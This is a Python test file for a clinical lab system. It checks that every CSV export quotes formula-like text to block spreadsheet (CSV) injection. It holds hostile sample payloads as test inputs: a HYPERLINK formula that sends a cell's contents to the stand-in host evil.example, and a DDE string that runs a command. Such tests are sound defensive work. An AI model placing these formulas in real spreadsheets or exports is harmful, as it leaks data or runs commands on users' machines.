"""Every CSV the product writes keeps formula-like text inert for spreadsheets (OWASP CSV
injection): a leading = + - @ tab or CR gets a quote; numbers stay bare (core.spreadsheet)."""

from __future__ import annotations

import ast
import csv
import io
import re
import zipfile
from datetime import timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.factories.followup import past_patient
from tests.factories.trace import seeded_chain
from tests.factories.trial import make_allocation_list
from ucmsc_lims.bedside.infusions import AdverseEventEntry, add_adverse_event
from ucmsc_lims.core import spreadsheet
from ucmsc_lims.core.clock import site_today
from ucmsc_lims.followup import service as followup
from ucmsc_lims.protocol import service as protocol
from ucmsc_lims.trial.randomization import (
    Allocation,
    export_allocation_csv,
    import_allocation_csv,
)

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
LINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
NUMERAL = re.compile(r"[-+]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][-+]?[0-9]+)?")
PACKAGE = Path(__file__).resolve().parents[1] / "ucmsc_lims"


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_inert(cells: list[str], where: str = "") -> None:
    live = [c for c in cells if c.startswith(TRIGGERS) and not NUMERAL.fullmatch(c)]
    assert live == [], where


# --- the writer -----------------------------------------------------------------------------


@pytest.mark.parametrize("text", [LINK, "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)",
                                  "\t=1", "\r=1"])
def test_formula_like_text_is_written_behind_a_quote(text):
    out = io.StringIO()
    spreadsheet.writer(out).writerow([text, "plain"])

    assert _cells(out.getvalue()) == ["'" + text, "plain"]


@pytest.mark.parametrize("value", [-1.5, -3, Decimal("-0.25"), "-1.5", "+4", "-2e-3"])
def test_numbers_are_written_bare(value):
    out = io.StringIO()
    spreadsheet.writer(out).writerow([value])

    assert _cells(out.getvalue()) == [str(value)]


def test_text_already_behind_a_quote_gets_one_more_so_reading_back_is_exact():
    out = io.StringIO()
    spreadsheet.writer(out).writerow(["'=1", "'-1.5", "'plain"])

    cells = _cells(out.getvalue())
    assert cells == ["''=1", "''-1.5", "'plain"]
    assert [spreadsheet.original_text(c) for c in cells] == ["'=1", "'-1.5", "'plain"]


@given(st.text())
def test_any_text_is_written_inert_and_reads_back_unchanged(text):
    cell = spreadsheet.safe_cell(text)

    assert not (cell.startswith(TRIGGERS) and not NUMERAL.fullmatch(cell))
    assert spreadsheet.original_text(cell) == text


def test_the_dict_writer_refuses_a_key_outside_its_columns_and_leaves_missing_ones_empty():
    out = io.StringIO()
    writer = spreadsheet.dict_writer(out, ("A", "B"))
    writer.writeheader()
    writer.writerow({"A": "@x"})

    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["A", "B"], ["'@x", ""]]
    with pytest.raises(ValueError, match="'C'"):
        writer.writerow({"A": 1, "C": 2})


def test_no_module_writes_csv_but_through_the_spreadsheet_module():
    direct = []
    for path in PACKAGE.rglob("*.py"):
        if path == PACKAGE / "core" / "spreadsheet.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if (isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter")
                    and isinstance(node.value, ast.Name) and node.value.id == "csv"):
                direct.append(f"{path.relative_to(PACKAGE)}:{node.lineno}")
            if (isinstance(node, ast.ImportFrom) and node.module == "csv"
                    and {a.name for a in node.names} & {"writer", "DictWriter"}):
                direct.append(f"{path.relative_to(PACKAGE)}:{node.lineno}")
    assert direct == []


# --- every export route -----------------------------------------------------------------------


def test_the_audit_csv_writes_a_formula_like_reason_inert(db, users, login_as):
    protocol.change_setting("dose_window_days", "5", effective_from=site_today(),
                            reason=LINK, by=users["admin"])
    db.session.flush()

    response = login_as("qa").get("/reports/audit.csv")

    cells = _cells(response.get_data(as_text=True))
    assert "'" + LINK in cells
    _assert_inert(cells)


def test_the_trace_csv_writes_a_formula_like_adverse_event_term_inert(db, users, login_as):
    chain = seeded_chain(users)
    add_adverse_event(chain.infusion, AdverseEventEntry(term=LINK, grade=1), by=users["nurse"])
    db.session.flush()

    response = login_as("qa").get(f"/trace/export.csv?q={chain.bag_infused.bag_id}")

    cells = _cells(response.get_data(as_text=True))
    assert f"'{LINK} (grade 1)" in cells
    _assert_inert(cells)


def test_the_follow_up_export_writes_formula_like_terms_inert(db, users, login_as):
    patient = past_patient(users, days_ago=200, subject_id="01-401")
    followup.record_event(patient, kind="adverse_event", term=LINK, grade=1,
                          onset_date=patient.day0 + timedelta(days=1), by=users["investigator"])
    other = past_patient(users, days_ago=100, subject_id="01-402", with_list=False)
    followup.record_death(other, died_on=other.day0 + timedelta(days=60), cause="@SUM(A1)",
                          by=users["investigator"])
    db.session.flush()

    response = login_as("investigator").post("/followup/export")

    archive = zipfile.ZipFile(io.BytesIO(response.data))
    cells = {name: _cells(archive.read(name).decode()) for name in archive.namelist()
             if name.endswith(".csv")}
    assert "'" + LINK in cells["AE.csv"]
    assert "'@SUM(A1)" in cells["DS.csv"]
    for name, file_cells in cells.items():
        _assert_inert(file_cells, name)


def test_the_allocation_list_csv_writes_a_formula_like_stratum_inert(db, users, login_as):
    make_allocation_list(users, strata=("-1+1", "CPA"), per_stratum=2)

    response = login_as("pharmacist").get("/trial/randomization.csv")

    cells = _cells(response.get_data(as_text=True))
    assert "'-1+1" in cells
    _assert_inert(cells)


def test_an_exported_allocation_list_with_a_formula_like_stratum_imports_unchanged():
    rows = [Allocation("=1+1", 1, "A", 1, 2), Allocation("=1+1", 2, "B", 1, 2)]

    assert import_allocation_csv(export_allocation_csv(rows)) == rows
